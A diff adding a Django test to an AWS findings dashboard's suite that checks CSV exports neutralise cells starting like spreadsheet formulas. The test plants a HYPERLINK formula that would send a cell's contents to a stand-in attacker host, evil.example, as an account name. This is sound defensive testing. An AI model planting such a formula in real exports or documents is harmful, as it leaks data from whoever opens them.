@@ -11,6 +11,9 @@ from django.utils import timezone
 
 from advisor.models import Finding, Suppression
 from tests.dashboard.builders import make_finding, make_function
+from tests.factories import make_user
+from tests.fixtures.aws_state import create_function
+from tests.reports.builders import connected_account, scan_inline
 
 
 def export_csv(client, query: str) -> list[dict]:
@@ -242,3 +245,32 @@ def test_text_search_uses_the_trigram_index_on_postgresql(world):
         plan = " ".join(row[0] for row in cursor.fetchall())
         cursor.execute("RESET enable_seqscan")
     assert "finding_search_trgm" in plan
+
+
+def test_exported_cells_that_start_like_formulas_are_neutralised(client, db, aws):
+    # Given an account renamed on its page to a formula, whose scan found a function whose name
+    # (valid on AWS) starts the finding's message with "-",
+    account, session = connected_account(aws, members={make_user("mallory"): "owner"})
+    create_function(session, aws, name="-2-3", runtime="python3.8")
+    scan_inline(account)
+    client.force_login(account.workspace.memberships.get().user)
+    planted = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
+    response = client.post(
+        reverse("accounts:edit", args=[account.pk]),
+        {
+            "name": planted,
+            "account_id": account.account_id,
+            "role_arn": account.role_arn,
+            "regions": account.regions,
+            "enabled": "on",
+            "endpoint_url": account.endpoint_url,
+        },
+    )
+    assert response.status_code == 302, response.content.decode()
+    # when the findings are exported,
+    rows = [r for r in export_csv(client, "") if r["resource_arn"].endswith(":-2-3")]
+    # then a spreadsheet reads those cells as text: each starts with a single quote.
+    assert rows and {r["account"] for r in rows} == {"'" + planted}
+    assert all(r["message"].startswith("'-2-3 ") for r in rows)
+    # The JSON export is data, not a spreadsheet: it keeps the values as they are.
+    assert {r["account"] for r in export_json(client, "")} == {planted}
